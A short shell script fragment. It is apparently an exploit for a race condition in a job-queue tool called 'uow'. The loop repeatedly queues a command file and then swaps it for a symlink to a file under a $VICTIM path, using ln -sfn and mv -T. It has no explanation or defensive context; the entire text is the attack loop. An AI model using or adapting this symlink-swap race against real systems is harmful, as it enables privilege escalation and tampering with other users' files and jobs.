for n in $(seq 25); do
	uow "COMMAND :: true" >incoming/own
	mv incoming/own wait-q/swapped-for-link
	ln -sfn "$VICTIM/uow" incoming/swap
	mv -T incoming/swap wait-q/swapped-for-link
done
